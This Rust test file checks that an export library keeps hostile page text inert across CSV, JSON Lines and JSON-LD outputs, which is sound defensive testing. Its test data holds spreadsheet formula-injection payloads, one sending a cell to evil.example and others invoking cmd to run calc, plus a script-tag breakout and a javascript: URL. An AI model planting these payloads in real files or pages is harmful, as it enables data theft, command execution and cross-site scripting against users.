//! What hostile pages put into names, titles, words and addresses stays text in every format. Snapshots are in
//! `hostile/`; `DIXIT_WRITE_SNAPSHOTS=1 cargo test -p dixit-export --test export hostile` writes them anew.

use std::path::Path;

use dixit::json::{self, Act, Manner, SpeakerKind};
use dixit_export::{Annotations, Csv, Item, JsonLines, Quotations, Sink, Tally};

use crate::annotations::valid;
use crate::csv::Rows;

const BREAK_OUT: &str = "</script><script>alert(1)</script><!--";
const CASES: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3;=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    BREAK_OUT,
    "line\u{2028}break\u{2029} \u{202e}sdrawkcab \u{1b}[31mred \"quoted\", 'too'\r\n=1",
];

/// A page all of whose texts are these.
fn item(evil: &str) -> Item {
    let end = evil.chars().count() as u32;
    let speaker = json::Speaker {
        id: "p1".to_owned(),
        entity: None,
        name: evil.to_owned(),
        names: vec![evil.to_owned(), "plain".to_owned()],
        kind: SpeakerKind::Person,
        roles: vec![evil.to_owned()],
        mentions: vec![[0, end]],
        alias: Some(json::Alias { published: evil.to_owned(), wikidata: Some(evil.to_owned()), roles: Vec::new() }),
    };
    let statement = json::Statement {
        id: "3f2a9c0d51e84b7796a0c2d4e5f60718".to_owned(),
        speaker: Some("p1".to_owned()),
        role: Some(evil.to_owned()),
        speaks_for: Some(evil.to_owned()),
        source: vec![[0, end]],
        cue: vec![[0, end]],
        content: vec![[0, end]],
        manner: Manner::Direct,
        act: Act::Assertion,
        event: Vec::new(),
        within: None,
        via: vec![evil.to_owned()],
        prompt: None,
        occasion: None,
        evidence: vec![[0, end]],
        confidence: 0.5,
    };
    Item::new(json::Reading {
        schema: json::SCHEMA.to_owned(),
        id: Some(evil.to_owned()),
        engine: json::Engine { version: "0".to_owned(), tier: "rules".to_owned(), models: Vec::new(), aliases: None },
        page: json::Page {
            digest: format!("sha256:{}", "0".repeat(64)),
            text_digest: format!("sha256:{}", "1".repeat(64)),
            url: Some(format!("javascript:alert(1)//https://{evil}")),
            media_type: "text/html".to_owned(),
            encoding: "utf-8".to_owned(),
            bytes: 1,
            locator: None,
        },
        article: json::Article {
            title: Some(evil.to_owned()),
            byline: Vec::new(),
            published: None,
            updated: None,
            section: None,
            outlet: Some(evil.to_owned()),
            agency: None,
            dateline: None,
            language: None,
            origin: [].into(),
            text: evil.to_owned(),
            blocks: Vec::new(),
        },
        speakers: vec![speaker],
        statements: vec![statement],
        warnings: Vec::new(),
    })
}

fn written(sink: impl for<'o> FnOnce(&'o mut Vec<u8>) -> Box<dyn Sink + 'o>) -> String {
    let mut out = Vec::new();
    let mut sink = sink(&mut out);
    CASES.iter().for_each(|evil| sink.put(&item(evil)).unwrap());
    sink.finish(&Tally::default()).unwrap();
    String::from_utf8(out).unwrap()
}

fn is_kept(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/export/hostile").join(name);
    if std::env::var_os("DIXIT_WRITE_SNAPSHOTS").is_some() {
        std::fs::write(&path, text).unwrap();
    }
    let kept = std::fs::read_to_string(&path).unwrap();
    assert!(kept == text, "{} is not what is written now:\n{text}", path.display());
}

/// Nothing that ends a script, begins a tag, breaks a line of JavaScript or turns text around.
fn is_inert(text: &str) {
    for obeyed in ["<", ">", "&", "\u{2028}", "\u{2029}", "\u{202e}", "\u{1b}"] {
        assert!(!text.contains(obeyed), "{obeyed:?} in {text}");
    }
}

#[test]
fn hostile_csv() {
    let text = written(|out| Box::new(Csv::new(out)));
    let rows = Rows::of(&text);
    for (row, evil) in rows.1.iter().zip(CASES) {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
        let said = rows.get(row, "content_text");
        assert_eq!(said.strip_prefix('\'').unwrap_or(said), evil);
    }
    is_kept("statements.csv", &text);
}

#[test]
fn hostile_json_lines() {
    let text = written(|out| Box::new(JsonLines::new(out)));
    is_inert(&text);
    let back: Vec<json::Reading> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(back, CASES.map(|evil| item(evil).reading().clone()));
    is_kept("readings.jsonl", &text);
}

#[test]
fn hostile_quotations() {
    let text = written(|out| Box::new(Quotations::new(out)));
    is_inert(&text);
    let document: serde_json::Value = serde_json::from_str(&text).unwrap();
    for (quotation, evil) in document["@graph"].as_array().unwrap().iter().zip(CASES) {
        assert_eq!(quotation["text"], evil);
        assert_eq!(quotation["creator"]["name"], evil);
        // Neither an address of the web nor an item of Wikidata.
        assert_eq!(quotation["isPartOf"].get("url"), None);
        assert_eq!(quotation["creator"].get("sameAs"), None);
    }
    is_kept("quotations.jsonld", &text);
}

#[test]
fn hostile_annotations() {
    let text = written(|out| Box::new(Annotations::new(out)));
    is_inert(&text);
    let page = valid(&text);
    for (annotation, evil) in page["items"].as_array().unwrap().iter().zip(CASES) {
        assert_eq!(annotation["target"][0]["selector"][1]["exact"], evil);
        assert_eq!(annotation["target"][0]["source"], format!("urn:sha256:{}", "0".repeat(64)));
    }
    is_kept("annotations.jsonld", &text);
}
